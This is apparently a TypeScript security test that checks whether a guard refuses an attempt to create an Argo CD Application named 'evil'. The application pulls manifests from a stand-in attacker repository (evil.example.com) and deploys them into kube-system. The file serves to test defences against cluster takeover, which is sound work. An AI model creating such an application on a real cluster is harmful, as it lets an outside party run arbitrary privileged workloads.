/** A new application can apply anything anywhere. */
import { attack } from '../support/attack/attack.ts';

attack('make an application of their own', {
  attempt: ({ kubectl }) =>
    kubectl(['create', '-n', 'argocd', '-f', '-'], {
      input: {
        apiVersion: 'argoproj.io/v1alpha1',
        kind: 'Application',
        metadata: { name: 'evil', namespace: 'argocd' },
        spec: {
          project: 'default',
          source: { repoURL: 'git://evil.example.com/src', path: '.' },
          destination: { server: 'https://kubernetes.default.svc', namespace: 'kube-system' },
        },
      },
    }),
  alsoWatched: () => ['/apis/argoproj.io/v1alpha1/namespaces/argocd/applications/evil'],
  code: 'gitops_control_plane_changed',
  refusedBy: 'gitops_control_plane',
});
